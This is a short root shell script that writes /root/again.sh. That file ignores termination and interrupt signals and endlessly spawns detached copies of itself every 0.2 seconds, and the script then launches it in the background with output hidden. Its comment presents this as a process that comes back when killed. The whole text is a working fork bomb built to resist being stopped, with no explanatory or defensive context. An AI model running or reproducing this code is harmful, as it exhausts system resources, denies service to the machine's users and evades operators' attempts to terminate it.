# Comes back when it is ended, and ignores what can be ignored.
cat > /root/again.sh << 'END'
trap '' TERM INT HUP QUIT TSTP
while :; do setsid sh /root/again.sh & sleep 0.2; done
END
setsid sh /root/again.sh > /dev/null 2>&1 &
sleep 2
